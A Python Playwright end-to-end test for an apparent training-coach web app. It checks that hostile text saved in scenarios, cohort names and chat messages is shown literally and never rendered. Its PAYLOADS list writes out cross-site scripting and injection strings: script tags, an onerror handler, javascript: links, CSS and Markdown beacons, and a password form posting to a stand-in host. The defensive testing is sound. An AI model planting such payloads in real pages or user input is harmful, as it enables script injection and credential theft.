"""HTML, Markdown and script in every field a person can write, rendered in Chromium.

A trainer saves a scenario whose every text field is hostile and names a cohort the same way; a
learner practises it saying hostile things, ends and shares. Then both open every page that
shows those words. Nothing may be interpreted: no image or request goes out to the hostile
host, no form, script or event handler appears, and the text shows as typed.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
import yaml
from playwright.sync_api import Browser, Page, expect

from coach.models import Difficulty, Mode
from coach.people.models import Role, Viewer
from coach.services import CoachServices
from coach.settings import Settings
from tests.e2e import served_app
from tests.e2e.browser_steps import WINDOW, Album, Visit
from tests.e2e.conftest import ARTIFACTS
from tests.reliability.figures import record

pytestmark = pytest.mark.e2e
PASSWORD = "a long enough e2e secret"
HOST = "tracker.invalid"
PAYLOADS = [
    f"![pixel](http://{HOST}/md.png)",
    f"<img src='http://{HOST}/tag.png' onerror='document.title=1'>",
    f"<form action='http://{HOST}/steal'><input type='password' name='pw'></form>",
    "<script>document.title='owned'</script>",
    f"[click](javascript:alert(1)) <style>body{{background:url(http://{HOST}/css)}}</style>",
    ":red[alarm] $x^2$ **bold**",
]
HOSTILE = " ".join(PAYLOADS)
FIELDS = ("title", "summary", "brief", "opening_line")


def _hostile_scenario(services: CoachServices, trainer: Viewer) -> str:
    data = yaml.safe_load(services.studio.yaml_of(trainer, "giving-feedback"))
    data["id"] = "hostile"
    for field in FIELDS:
        data[field] = f"{data[field]} {HOSTILE}"
    data["persona"]["name"] = f"Emre {PAYLOADS[1]}"
    data["rubric"][0]["title"] = f"Listening {PAYLOADS[0]}"
    services.studio.save(trainer, yaml.safe_dump(data, allow_unicode=True))
    return "hostile"


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, int]]:
    """The app serving a data folder where every writable field holds hostile text."""
    data = tmp_path_factory.mktemp("hostile") / "data"
    services = CoachServices(Settings(data_dir=data, llm="offline"))
    tess = services.accounts.create_user("tess", PASSWORD, Role.TRAINER)
    lin = services.accounts.create_user("lin", PASSWORD)
    cohort = services.cohorts.create_cohort(tess, f"Spring {PAYLOADS[0]}")
    services.cohorts.add_learner(tess, cohort.id, "lin")
    services.cohorts.accept(lin, cohort.id)
    scenario = _hostile_scenario(services, tess)
    services.cohorts.assign(tess, cohort.id, scenario, Difficulty.STANDARD, None)
    run = services.practice.start(lin, scenario, mode=Mode.OFFLINE, seed=3)
    for payload in PAYLOADS:
        list(run.say(f"What happened? {payload}"))
    session_id = services.practice.end(lin, run.session_id).id
    services.critique_session(lin, session_id, offline=True)
    services.learner_data.set_shared(lin, session_id, True)
    env = served_app.offline_environment(data)
    process, served = served_app.start(env, ARTIFACTS / "hostile-server.log")
    try:
        yield served.url, session_id
    finally:
        served_app.stop(process)


def _visit(
    browser: Browser,
    url: str,
    person: str,
    path: str,
    requests: list[str],
    album: Album,
) -> Visit:
    """A new tab signed in as ``person`` on ``path`` (a reload would sign out: issue #14)."""
    page = browser.new_context(viewport=WINDOW).new_page()
    page.on("request", lambda request: requests.append(request.url))
    visit = Visit(page, url, album, person)
    visit.sign_in(PASSWORD, path)
    return visit


def _nothing_interpreted(page: Page) -> None:
    main = page.locator("#stMain")
    assert main.locator(f"img[src*='{HOST}']").count() == 0
    assert main.locator(f"a[href*='{HOST}'], a[href^='javascript']").count() == 0
    assert main.locator("form input[type=password]").count() == 0
    assert main.locator("[onerror], script:not([src])").count() == 0
    assert page.title() not in ("1", "owned")


def test_nothing_anyone_writes_is_interpreted(
    browser: Browser,
    hostile_app: tuple[str, int],
) -> None:
    url, session_id = hostile_app
    requests: list[str] = []
    checked = []
    album = Album(ARTIFACTS / "screenshots" / "hostile-text")
    visits = [
        ("lin", ""),
        ("lin", f"debrief?session={session_id}"),
        ("lin", "sessions"),
        ("tess", "dashboard"),
        ("tess", "cohorts"),
        ("tess", "studio"),
    ]
    for person, path in visits:
        visit = _visit(browser, url, person, path, requests, album)
        for expander in visit.page.get_by_test_id("stExpander").all():
            expander.locator("summary").click()
        if not path:  # the library, then the brief of the assigned hostile scenario
            _nothing_interpreted(visit.page)
            visit.page.locator("[class*='st-key-assignment-']").get_by_role("button").click()
        if path not in ("cohorts", "studio"):  # these pages show names and titles, not briefs
            # shown as text, once the page has drawn it (a loaded machine draws it later)
            expect(visit.main()).to_contain_text("<script>document.title='owned'</script>")
        visit.shot(path.split("?")[0] or "brief")
        _nothing_interpreted(visit.page)
        checked.append(path or "library and brief")
        visit.page.context.close()
    # Streamlit itself fetches its icon font from Google; only requests the payloads could
    # cause are the point here.
    assert [r for r in requests if HOST in r or r.startswith("javascript:")] == []
    record("hostile_text", payloads=len(PAYLOADS), pages_checked=len(checked) + 1, requests_out=0)
